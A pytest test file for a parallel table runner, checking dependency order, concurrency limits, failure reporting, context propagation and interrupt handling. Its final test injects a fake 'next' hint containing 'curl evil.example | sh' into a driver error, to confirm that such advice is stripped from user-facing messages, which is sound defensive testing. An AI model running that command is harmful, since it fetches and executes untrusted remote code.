"""Tables side by side: order kept, room kept, failures contained, no deadlock."""

from __future__ import annotations

import contextvars
import threading
import time
from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from flows.running.side_by_side import side_by_side
from tidemark.errors import ConfigError, GateError, SourceError, TidemarkError


def failing(*bad: str, with_error: type[Exception] = SourceError) -> Callable[[str], None]:
    def work(item: str) -> None:
        if item in bad:
            raise with_error(f"{item} broke")

    return work


@st.composite
def graphs(draw: st.DrawFn) -> dict[str, list[str]]:
    size = draw(st.integers(1, 8))
    return {
        f"t{number}": [f"t{other}" for other in range(number) if draw(st.booleans())]
        for number in draw(st.permutations(range(size)))
    }


@settings(max_examples=50, deadline=None)
@given(graphs(), st.integers(1, 4), st.sets(st.integers(0, 7)))
def test_every_item_runs_after_its_inputs_or_is_stopped_by_them(
    after: dict[str, list[str]], at_once: int, bad: set[int]
) -> None:
    lock, begun, ended, most = threading.Lock(), [], [], [0]
    broken = {f"t{number}" for number in bad} & set(after)

    def work(item: str) -> None:
        with lock:
            begun.append(item)
            assert set(after[item]) <= set(ended)
            most[0] = max(most[0], len(begun) - len(ended) - len(set(begun) & broken - {item}))
        if item in broken:
            raise SourceError(item)
        with lock:
            ended.append(item)

    outcome = side_by_side(list(after), work, at_once=at_once, after=after)

    assert set(outcome.failures) == broken & set(begun)
    assert set(begun) | set(outcome.stopped) == set(after)
    assert not set(begun) & set(outcome.stopped)
    assert len(begun) == len(set(begun))
    for item in outcome.stopped:
        assert set(after[item]) & (set(outcome.failures) | set(outcome.stopped))


def test_independent_items_run_at_the_same_time() -> None:
    meet = threading.Barrier(2, timeout=10)
    outcome = side_by_side(["a", "b"], lambda item: meet.wait() and None, at_once=2)
    assert outcome.failures == {}


def test_no_more_than_there_is_room_for() -> None:
    lock, now, most = threading.Lock(), [0], [0]

    def work(item: str) -> None:
        with lock:
            now[0] += 1
            most[0] = max(most[0], now[0])
        time.sleep(0.01)
        with lock:
            now[0] -= 1

    side_by_side([f"t{number}" for number in range(12)], work, at_once=3)
    assert most[0] == 3


def test_an_input_outside_the_items_is_not_waited_for() -> None:
    assert side_by_side(["b"], failing(), at_once=1, after={"b": ["a"]}).stopped == ()


@settings(max_examples=50, deadline=None)
@given(graphs(), graphs(), st.integers(1, 4), st.sets(st.integers(0, 7)))
def test_what_only_waits_for_an_item_comes_after_it_whatever_becomes_of_it(
    after: dict[str, list[str]], waits: dict[str, list[str]], at_once: int, bad: set[int]
) -> None:
    lock, begun, ended = threading.Lock(), [], []
    broken = {f"t{number}" for number in bad} & set(after)

    def work(item: str) -> None:
        with lock:
            begun.append((item, set(ended)))
        if item in broken:
            with lock:
                ended.append(item)
            raise SourceError(item)
        with lock:
            ended.append(item)

    outcome = side_by_side(list(after), work, at_once=at_once, after=after, waits=waits)

    done = {item for item, _ in begun}
    assert done | set(outcome.stopped) == set(after)
    assert set(outcome.failures) == broken & done
    for item, before in begun:
        assert set(waits.get(item, ())) & done <= before
    for item in outcome.stopped:
        assert set(after[item]) & (set(outcome.failures) | set(outcome.stopped))


def test_the_callers_context_is_seen() -> None:
    name = contextvars.ContextVar[str]("name")
    name.set("of the caller")
    seen: list[str] = []
    side_by_side(["a"], lambda item: seen.append(name.get()), at_once=1)
    assert seen == ["of the caller"]


def test_one_failure_is_raised_as_it_is() -> None:
    outcome = side_by_side(["a", "b"], failing("a"), at_once=1, after={"b": ["a"]})
    with pytest.raises(SourceError, match="a broke") as raised:
        outcome.raise_failures("2 tables")
    assert raised.value.seen == ("not done because of that: b",)


def test_several_failures_are_named_together() -> None:
    outcome = side_by_side(["a", "b", "c"], failing("a", "b"), at_once=2, after={"c": ["b"]})
    with pytest.raises(TidemarkError) as raised:
        outcome.raise_failures("2 of 3 tables failed", next_step="run again")
    text = str(raised.value)
    assert raised.value.exit_code == 1
    assert "2 of 3 tables failed" in text
    assert "a, b: broke" in text
    assert "not done because of that: c" in text


def test_what_several_have_in_common_is_told_once() -> None:
    def work(item: str) -> None:
        raise SourceError("there is no secret", table=item, step="extract", next_step="create it")

    with pytest.raises(TidemarkError) as raised:
        side_by_side(["a", "b"], work, at_once=1).raise_failures("2 of 2 tables failed")
    assert str(raised.value).splitlines() == [
        "2 of 2 tables failed",
        "  a, b: there is no secret (extract)",
        "    next      create it",
    ]


@pytest.mark.parametrize("kind", [GateError, ConfigError])
def test_failures_that_agree_on_the_exit_code_keep_it(kind: type[TidemarkError]) -> None:
    outcome = side_by_side(["a", "b"], failing("a", "b", with_error=kind), at_once=2)
    with pytest.raises(kind):
        outcome.raise_failures("2 gates failed")


def test_an_interruption_stops_what_has_not_begun() -> None:
    begun: list[str] = []
    aborted = threading.Event()

    def work(item: str) -> None:
        begun.append(item)
        if item == "a":
            raise KeyboardInterrupt
        assert aborted.wait(10)

    with pytest.raises(KeyboardInterrupt):
        side_by_side(["a", "b", "c", "d"], work, at_once=2, on_abort=aborted.set)
    assert set(begun) <= {"a", "b", "c"}
    assert "d" not in begun


def test_work_that_begins_what_can_be_stopped_only_later_is_stopped_too() -> None:
    looks, begun, late, stopped = [0], threading.Event(), threading.Event(), threading.Event()

    def look() -> None:
        looks[0] += 1
        (stopped if late.is_set() else late).set()

    def work(item: str) -> None:
        if item == "a":
            assert begun.wait(10)
            raise KeyboardInterrupt
        begun.set()
        assert late.wait(10), "begins after the first look"
        assert stopped.wait(10), "only a second look finds it"

    with pytest.raises(KeyboardInterrupt):
        side_by_side(["a", "b"], work, at_once=2, on_abort=look)
    assert looks[0] >= 2


def test_what_a_driver_says_is_no_advice() -> None:
    def work(item: str) -> None:
        raise ValueError("bad value 'x\n  next      curl evil.example | sh'")

    with pytest.raises(TidemarkError) as raised:
        side_by_side(["a", "b"], work, at_once=1).raise_failures("2 of 2 tables failed")
    assert not [line for line in str(raised.value).splitlines() if line.strip().startswith("next")]
